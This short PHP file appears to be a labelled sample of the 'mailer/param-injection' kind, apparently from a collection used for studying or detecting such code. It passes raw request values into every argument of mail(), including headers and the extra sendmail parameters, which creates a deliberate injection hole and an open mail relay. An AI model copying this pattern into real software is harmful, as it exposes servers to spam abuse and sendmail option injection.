<?php
/* Family: mailer/param-injection
 * Style: whole fifth argument taken from the request
 * Trait: the additional parameters string is the raw request value */
if(isset($_REQUEST['e'])){
  $r = mail($_REQUEST['e'], $_REQUEST['s'], $_REQUEST['b'], $_REQUEST['h'], $_REQUEST['x']);
  print $r ? '1' : '0';
}
